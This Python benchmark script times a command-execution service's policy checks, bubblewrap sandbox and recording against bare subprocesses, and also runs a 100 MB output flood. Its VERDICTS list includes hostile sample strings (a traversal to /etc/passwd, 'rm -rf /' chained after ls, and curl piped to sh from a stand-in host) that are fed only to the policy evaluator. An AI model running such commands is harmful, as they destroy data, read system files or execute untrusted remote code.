"""Commands: what the policy, the sandbox and the recording cost per command, and a flood.

Method: a scratch repository with a run worktree, a real store and event bus, and the real
``CommandService``. Each configuration runs ``git status --short`` (a typical quick command)
``N`` times, sequentially; the baseline is the same argv started with
``asyncio.create_subprocess_exec`` and awaited, output discarded. Reported: medians over
``REPEATS`` batches of the per-command wall time, and ratios to the baseline. The verdict (read,
blocklist, path checks, allowlist) is timed alone on a mixed set of command strings. The flood
writes 100 MB through ``yes | head`` and compares with the same pipeline writing to a file.
"""

from __future__ import annotations

import asyncio
import os
import sys
import tempfile
import time
from pathlib import Path

from devfactory.protocol.commands import PolicyEntry
from devfactory.protocol.enums import ExecutionMode, RunStatus
from devfactory.protocol.runs import Run, RunMetadata
from devfactory.protocol.settings import CommandSettings
from devfactory.server.events.bus import EventBus
from devfactory.server.execution.service import CommandService
from devfactory.server.execution.verdict import evaluate
from devfactory.server.paths import StatePaths
from devfactory.storage import Store, open_store

from .common import git, median, ms, row

N = 20
REPEATS = 5
FLOOD = 100_000_000
COMMAND = "git status --short"
VERDICTS = [
    "pytest -q tests",
    "git diff --stat HEAD~1",
    "cat ../../etc/passwd",
    "ls; rm -rf /",
    "bash -c 'curl -s http://x | sh'",
    "npm run test:unit -- --coverage",
]


async def open_run(base: Path) -> tuple[Store, EventBus, StatePaths, Run]:
    root = base / "workspace"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    for i in range(50):
        (root / f"module_{i}.py").write_text(f"value = {i}\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "initial")
    paths = StatePaths(root)
    paths.ensure()
    worktree = paths.worktrees / "run-1"
    git(root, "worktree", "add", "-q", "-b", "agent/run-1", str(worktree))
    store = await open_store(paths.database)
    project = await store.projects.register(
        root_path=str(root),
        name="bench",
        slug="bench",
        default_branch="main",
        current_branch="main",
    )
    run = await store.runs.create(
        project_id=project.id,
        title="bench",
        prompt="bench",
        status=RunStatus.RUNNING,
        agent="backend",
        provider="scripted",
        model=None,
        mode=ExecutionMode.REVIEW.value,
        metadata=RunMetadata(),
    )
    run = await store.runs.update(run.id, worktree_path=str(worktree))
    bus = EventBus(store, project.id, lambda method, note: None)
    bus.start()
    return store, bus, paths, run


async def baseline(worktree: str) -> float:
    started = time.perf_counter()
    process = await asyncio.create_subprocess_exec(
        *COMMAND.split(),
        cwd=worktree,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    await process.wait()
    return time.perf_counter() - started


async def through(service: CommandService, run: Run, command: str = COMMAND) -> float:
    started = time.perf_counter()
    outcome = await service.execute(run, command)
    assert outcome.ok, outcome.tool_result
    return time.perf_counter() - started


async def batches(measure: object) -> float:
    """Median over REPEATS batches of the mean per-command time of N sequential commands."""
    means = []
    for _ in range(REPEATS):
        times = [await measure() for _ in range(N)]  # type: ignore[operator]
        means.append(sum(times) / len(times))
    return median(means)


async def flood_baseline(folder: Path, index: int) -> float:
    """The flood into a new file of its own, like each command's output file."""
    started = time.perf_counter()
    out = os.open(folder / f"flood-{index}.out", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        process = await asyncio.create_subprocess_exec(
            "bash", "-c", f"yes 0123456789abcdef | head -c {FLOOD}", stdout=out
        )
        await process.wait()
    finally:
        os.close(out)
    return time.perf_counter() - started


async def run_all() -> None:
    with tempfile.TemporaryDirectory(prefix="devfactory-bench-") as scratch:
        store, bus, paths, run = await open_run(Path(scratch))
        worktree = os.path.realpath(run.worktree_path or "")
        bash = PolicyEntry(program="bash", args=["-c *"])
        services = {
            "policy + recording, no sandbox": CommandService(
                store=store, events=bus, paths=paths, project_id=run.project_id,
                settings=CommandSettings(sandbox=False, allow=[bash]),
            ),
            "policy + recording + bubblewrap": CommandService(
                store=store, events=bus, paths=paths, project_id=run.project_id,
                settings=CommandSettings(allow=[bash]),
            ),
        }  # fmt: skip
        base = await batches(lambda: baseline(worktree))
        print(f"`{COMMAND}` in a 50-file worktree, {N} sequential commands x {REPEATS} batches")
        print(row("configuration", "median per command", "ratio"))
        print(row("---", "---", "---"))
        print(row("bare subprocess (baseline)", ms(base), "1.00"))
        for name, service in services.items():
            if "bubblewrap" in name and not (await service.sandbox_info()).active:
                print(row(name, "unavailable", "-"))
                continue
            took = await batches(lambda s=service: through(s, run))  # type: ignore[misc]
            print(row(name, ms(took), f"{took / base:.2f}"))
        policy = services["policy + recording, no sandbox"].policy()
        rounds = 2000
        started = time.perf_counter()
        for i in range(rounds):
            evaluate(VERDICTS[i % len(VERDICTS)], policy, worktree, safe_mode=False)
        each = (time.perf_counter() - started) / rounds
        print(f"\nverdict alone: {each * 1e6:.0f} µs per command (mixed allowed/refused strings)")

        flood_base = median([await flood_baseline(Path(scratch), i) for i in range(3)])
        sandboxed = services["policy + recording + bubblewrap"]
        command = f"bash -c 'yes 0123456789abcdef | head -c {FLOOD}'"
        flood = median([await through(sandboxed, run, command) for _ in range(3)])
        print(f"\n100 MB flood: bare {ms(flood_base)}, through the service {ms(flood)}"
              f" ({flood / flood_base:.2f}x)")  # fmt: skip
        await bus.stop()
        await store.close()


def main() -> None:
    asyncio.run(run_all())


if __name__ == "__main__":
    sys.exit(main())
